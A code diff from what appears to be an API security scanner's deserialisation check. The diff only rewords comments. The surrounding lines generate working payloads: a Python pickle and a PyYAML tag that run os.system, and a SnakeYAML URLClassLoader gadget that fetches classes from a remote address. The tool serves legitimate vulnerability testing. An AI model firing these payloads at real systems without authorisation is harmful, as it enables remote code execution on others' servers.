@@ -13,7 +13,7 @@ const command = (url: string) =>
 /** A pickle of protocol 0 that runs a command: c(module, name) (text) t R. */
 const pickle = (url: string) => `cos\nsystem\n(S'${command(url).replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'\ntR.`
 const yaml = (url: string) => `!!python/object/apply:os.system ["${command(url).replaceAll('"', '\\"')}"]`
-/** The class path of SnakeYAML's own classes leads to the address, where a list of what it offers is looked for. */
+/** SnakeYAML's class loader gadget: it requests a list of services from the address. */
 const yamlOfJava = (url: string) =>
   `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}/"]]]]`
 /**
@@ -38,7 +38,7 @@ type Payload = {
 const isExactly = (path: string, { token }: CallAddress) => path.startsWith(`/${token} `)
 const isListOfOffers = (path: string, { token }: CallAddress) => path.startsWith(`/${token}/META-INF/services/`)
 
-/** Of what is no object that is read back. */
+/** Values that hold no serialised object. */
 const TITLES: Readonly<Record<number, string>> = { 94: 'Code injection', 917: 'A lookup in the value is followed' }
 
 const isEncoded = (text: string) => /^[A-Za-z0-9+/_-]{16,}={0,2}$/.test(text)
@@ -103,7 +103,7 @@ const payloads: readonly Payload[] = [
   },
 ]
 
-/** What the path says that its values are read as. */
+/** Paths whose name says that their values are deserialised. */
 const wordsOf = ({ path }: Operation): string => path.match(/pickle|serial|yaml|yml/gi)?.join(' ') ?? ''
 
 export const deserialisation: PointCheck = {
